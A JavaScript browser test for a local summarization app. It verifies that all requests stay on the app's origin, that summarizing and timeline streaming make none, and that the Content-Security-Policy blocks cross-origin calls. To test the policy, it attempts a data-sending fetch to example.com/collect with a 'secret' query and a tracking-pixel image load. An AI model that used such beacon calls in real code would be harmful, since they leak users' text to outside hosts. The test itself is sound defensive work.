// Nothing leaves the tab: every request the page, its worker and its
// service worker make goes to the app's own origin; summarizing and
// building a timeline make no request at all (the browser records none and
// the server receives none); and the page's Content-Security-Policy blocks
// a request to another origin even if some code tried.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { ENCODER_FILE, fixtureText, loadExample, openApp, pasteArticles, setUp, summarize, waitForModel } from "../helpers.mjs";

let env;
before(async () => (env = await setUp()));
after(async () => env?.tearDown());

test("no request to another origin, and none while summarizing or streaming", async () => {
  const context = await env.browser.newContext();
  const requests = [];
  let phase = "loading";
  const origin = new URL(env.server.url).origin;
  // Every request of the context (page, dedicated worker, service worker)
  // passes through here; one to another origin is recorded and refused.
  await context.route("**/*", (route) => {
    const url = route.request().url();
    requests.push({ url, phase, via: "route" });
    if (url.startsWith(origin)) return route.continue();
    return route.abort("blockedbyclient");
  });
  context.on("request", (request) => requests.push({ url: request.url(), phase, via: "event" }));
  // One helper worker whatever the machine's cores, so that loading has a
  // known end (below).
  const { page } = await openApp(env, { context, query: "?helpers=1" });
  await waitForModel(page);
  assert.ok(requests.some((r) => r.url.includes(`models/muse-v3/${ENCODER_FILE}`)), "the model download is recorded");

  await loadExample(page);
  await pasteArticles(page, [fixtureText("ship-en.txt")]);
  // Loading ends when everything the app fetches has arrived: the service
  // worker is active (it fetched sw.js and the app shell), the model, the
  // trained heads and the stream settings are in (the worker fetches them
  // all before it says the model is ready), and the helper worker runs.
  // Each of these is awaited, not a quiet spell, so a slow machine waits
  // longer instead of failing.
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
  await page.waitForFunction(() => document.querySelector('[data-testid="model-status"]')?.dataset.helpers === "1", null, { timeout: 180_000 });
  // The embedding table comes in blocks as texts need them, then whole in
  // the background (issue #43): until it is whole, a summary may fetch
  // byte ranges of models/muse-v3/table.u8 from the app's own server (and
  // nothing else). Once the badge says the app works offline, nothing.
  await page.waitForSelector('[data-testid="model-status"][data-offline="true"]', { timeout: 180_000 });
  const before = env.server.requests.filter((r) => r.range);
  assert.ok(before.length > 0 && before.every((r) => r.url.includes("models/muse-v3/table.u8")), JSON.stringify(before));
  const served = env.server.requests.length;
  phase = "summarizing";
  await summarize(page);
  assert.ok((await page.getByTestId("summary-sentence").count()) > 0);
  await page.getByRole("tab", { name: "How it was chosen" }).click();
  await page.getByRole("tab", { name: "Map" }).click();
  phase = "streaming";
  await page.getByTestId("mode-timeline").click();
  await page.locator("#stream-policy").selectOption("cos");
  await page.getByTestId("timeline-run").click();
  await page.getByTestId("timeline-update").first().waitFor({ timeout: 60_000 });
  phase = "done";
  // The browser checks the service worker's own script for an update on
  // its own schedule (a GET of sw.js that carries nothing of the page);
  // anything else asked of the server while summarizing or streaming would
  // be the app's doing.
  const updateCheck = (url) => new URL(url, origin).pathname === "/sw.js";
  const later = env.server.requests.slice(served).filter((r) => !updateCheck(r.url));
  assert.deepEqual(later, [], "the server received requests while summarizing or streaming");

  const foreign = requests.filter((r) => !r.url.startsWith(origin) && !r.url.startsWith("blob:") && !r.url.startsWith("data:"));
  assert.deepEqual(foreign, [], "requests to other origins");
  const during = requests.filter((r) => (r.phase === "summarizing" || r.phase === "streaming") && !updateCheck(r.url));
  assert.deepEqual(during, [], "requests while summarizing or streaming");

  // Even a deliberate attempt is stopped by the page's policy, before any request is made.
  const attempt = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    const outcome = await fetch("https://example.com/collect?text=secret").then(() => "sent", () => "blocked");
    const image = await new Promise((done) => {
      const img = new Image();
      img.onload = () => done("loaded");
      img.onerror = () => done("blocked");
      img.src = "https://example.com/pixel.png";
    });
    await new Promise((r) => setTimeout(r, 50));
    return { outcome, image, violations };
  });
  assert.equal(attempt.outcome, "blocked");
  assert.equal(attempt.image, "blocked");
  assert.ok(attempt.violations.includes("connect-src"), `CSP violations: ${attempt.violations}`);
  // Chromium announces the image before its policy check, but nothing reached the network layer.
  const leaked = requests.filter((r) => r.url.includes("example.com") && r.via === "route");
  assert.deepEqual(leaked, [], "the CSP stops the request before it leaves the browser");
  assert.deepEqual(page.errors.filter((e) => !/Content Security Policy|example\.com/.test(e)), []);
  await context.close();
});
